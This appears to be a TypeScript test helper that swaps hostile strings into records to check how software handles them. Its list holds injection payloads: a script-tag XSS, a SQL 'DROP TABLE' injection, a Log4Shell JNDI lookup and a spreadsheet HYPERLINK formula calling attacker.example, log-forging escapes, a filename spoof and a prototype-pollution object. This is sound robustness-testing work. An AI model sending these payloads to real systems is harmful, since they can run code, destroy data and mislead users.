import { exactNumber } from '../exact-number.ts';
import type { JsonObject } from '../faults/answer.ts';
import type { SeededRandom } from '../seeded-random.ts';

/** Texts that break what reads, logs, shows or stores them carelessly. */
const texts = [
  '<script>alert(document.domain)</script><img src=x onerror=alert(1)>',
  "'; DROP TABLE checkpoints; --",
  '${jndi:ldap://attacker.example/a}',
  '=HYPERLINK("http://attacker.example","click")',
  '\u001b[2J\u001b[31mforged line\u001b[0m',
  'line one\r\n{"level":"error","event":"forged"}',
  'invoice\u202Egnp.exe',
  'null\u0000byte',
  'lone \ud800 surrogate',
  '\ufeffmarked',
  'e\u0301\u0302\u0303'.repeat(500),
  '👩‍👩‍👧‍👦 𠮷野家',
  'x'.repeat(100_000),
] as const;

/** A record with a few of its texts replaced, and fields nobody documented. */
export function hostileVersion(random: SeededRandom, record: JsonObject, textFields: readonly string[]): JsonObject {
  const replaced = textFields.filter(() => random.chance(0.5)).map((name) => [name, random.pick(texts)] as const);
  return {
    ...record,
    ...Object.fromEntries(replaced),
    new_field_of_the_vendor: {
      ['__proto__']: { polluted: true },
      constructor: 'x',
      '': 'nameless',
      'a.b': [[], {}, null],
    },
    counter_beyond_doubles: exactNumber('9223372036854775807'),
    ratio_beyond_doubles: exactNumber('1e999'),
  };
}
